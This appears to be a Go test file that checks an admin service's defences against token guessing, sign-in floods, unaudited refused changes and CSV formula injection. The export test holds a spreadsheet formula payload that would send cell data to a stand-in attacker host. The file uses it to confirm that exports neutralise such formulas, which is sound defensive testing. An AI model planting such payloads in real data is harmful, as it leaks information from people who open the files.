package admin

import (
	"encoding/csv"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"strings"
	"testing"
	"time"
)

// Attack 6: a token that does not fit the format is refused before it is
// hashed, and guessing well-formed tokens from one source is throttled
// without refusing a token already in use from that source.
func TestTokenGuessingThrottled(t *testing.T) {
	f := newFixture(t)
	if code := f.do("GET", "/api/v1/customers/acme", acmeToken, "", nil); code != http.StatusOK {
		t.Fatalf("acme before: %d", code)
	}
	hashed := tokensHashed.Load()
	for range 100 {
		if code := f.do("GET", "/api/v1/customers/acme", "dev-operator-token", "", nil); code != http.StatusUnauthorized && code != http.StatusTooManyRequests {
			t.Fatalf("malformed token: %d", code)
		}
	}
	if n := tokensHashed.Load() - hashed; n != 0 {
		t.Fatalf("%d malformed tokens were hashed", n)
	}
	throttled := 0
	for range 200 {
		switch code := f.do("GET", "/api/v1/customers/acme", NewToken(), "", nil); code {
		case http.StatusTooManyRequests:
			throttled++
		case http.StatusUnauthorized:
		default:
			t.Fatalf("guess: %d", code)
		}
	}
	if throttled < 150 {
		t.Fatalf("%d of 200 guesses throttled", throttled)
	}
	if code := f.do("GET", "/api/v1/customers/acme", acmeToken, "", nil); code != http.StatusOK {
		t.Fatalf("acme's token, in use from this source, refused during the guessing: %d", code)
	}
}

// signIn posts the sign-in form with a fresh cookie jar and returns the
// status and the session cookie's client.
func (f *fixture) signIn(token string) (int, *http.Client) {
	f.t.Helper()
	jar, _ := cookiejar.New(nil)
	c := &http.Client{Jar: jar, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	resp, err := c.PostForm(f.base+"/ui/signin", url.Values{"token": {token}})
	if err != nil {
		f.t.Fatal(err)
	}
	resp.Body.Close()
	return resp.StatusCode, c
}

func (f *fixture) signedIn(c *http.Client) bool {
	f.t.Helper()
	resp, err := c.Get(f.base + "/ui/messages")
	if err != nil {
		f.t.Fatal(err)
	}
	resp.Body.Close()
	return resp.StatusCode == http.StatusOK
}

// Attack 4: a customer signing in over and over never signs the operator
// out; it only replaces its own oldest sessions, and sign-in is throttled.
func TestSignInFloodKeepsOperatorSession(t *testing.T) {
	f := newFixture(t)
	code, op := f.signIn(opToken)
	if code != http.StatusSeeOther || !f.signedIn(op) {
		t.Fatalf("operator sign-in: %d", code)
	}
	var first *http.Client
	ok, throttled := 0, 0
	for i := range 300 {
		code, c := f.signIn(acmeToken)
		switch code {
		case http.StatusSeeOther:
			ok++
			if i == 0 {
				first = c
			}
		case http.StatusTooManyRequests:
			throttled++
		default:
			t.Fatalf("sign-in %d: %d", i, code)
		}
	}
	if throttled == 0 {
		t.Fatalf("300 sign-ins in a row, none throttled")
	}
	if !f.signedIn(op) {
		t.Fatal("the operator was signed out by a customer's sign-ins")
	}
	if ok > DefaultSessionsPerToken && f.signedIn(first) {
		t.Fatalf("acme has %d sessions and its oldest still works (cap %d)", ok, DefaultSessionsPerToken)
	}
	f.now = f.now.Add(time.Hour) // the sign-in throttle refills
	if code, c := f.signIn(acmeToken); code != http.StatusSeeOther || !f.signedIn(c) {
		t.Fatalf("acme after an hour: %d", code)
	}
}

// Attack 8: every refused change is audited, whoever's token it was.
func TestRefusedChangesAudited(t *testing.T) {
	f := newFixture(t)
	for _, c := range []struct{ method, path, body string }{
		{"POST", "/api/v1/customers/beta/suspend", `{"reason":"x"}`},
		{"POST", "/api/v1/customers/acme/suspend", `{"reason":"x"}`},
		{"POST", "/api/v1/customers/acme/purge", `{"confirm":"acme"}`},
		{"POST", "/api/v1/customers/acme/senders", `{"number":"0299998888"}`},
		{"PUT", "/api/v1/payments/acme001", `{}`},
	} {
		before := len(f.audit.all())
		if code := f.do(c.method, c.path, acmeToken, c.body, nil); code < 400 {
			t.Fatalf("%s %s by a customer token: %d", c.method, c.path, code)
		}
		all := f.audit.all()
		if len(all) != before+1 {
			t.Fatalf("%s %s refused: %d audit entries, want 1", c.method, c.path, len(all)-before)
		}
		e := all[len(all)-1]
		if e.Outcome != "refused" || e.Who != "acme-admin" || e.Scope != "customer:acme" || e.Action == "" || e.Error == "" || e.Target == "" {
			t.Fatalf("%s %s: audit entry %+v", c.method, c.path, e)
		}
	}
	// A bad body from the operator is a refused change too.
	before := len(f.audit.all())
	if code := f.do("POST", "/api/v1/customers/acme/suspend", opToken, `{}`, nil); code != http.StatusBadRequest {
		t.Fatalf("suspend without a reason: %d", code)
	}
	if all := f.audit.all(); len(all) != before+1 || all[len(all)-1].Who != "ops" {
		t.Fatalf("operator's refused change not audited: %+v", all[before:])
	}
}

// Attack 9: a client_ref that is a formula is written as text in every
// CSV: the sending-record export and the history download.
func TestExportNeutralisesFormulas(t *testing.T) {
	f := newFixture(t)
	evil := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	f.send("acme", evil, "sms", "01012345678", "delivered", testNow.Add(-time.Hour))
	f.send("acme", "+1+2", "sms", "01012345678", "delivered", testNow.Add(-time.Hour))
	for _, path := range []string{
		"/api/v1/customers/acme/export?from=2026-11-01&to=2026-11-30",
		"/api/v1/messages?customer=acme&from=2026-11-01&to=2026-11-30&format=csv",
	} {
		var body string
		if code := f.do("GET", path, opToken, "", &body); code != 200 {
			t.Fatalf("%s: %d", path, code)
		}
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff"))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		found := 0
		for _, r := range rows[1:] {
			for _, cell := range r {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && cell != "-" {
					t.Errorf("%s: cell %q starts a formula", path, cell)
				}
			}
			if r[2] == "'"+evil || r[2] == "'+1+2" {
				found++
			}
		}
		if found != 2 {
			t.Fatalf("%s: the two client refs not written as text:\n%s", path, body)
		}
	}
}
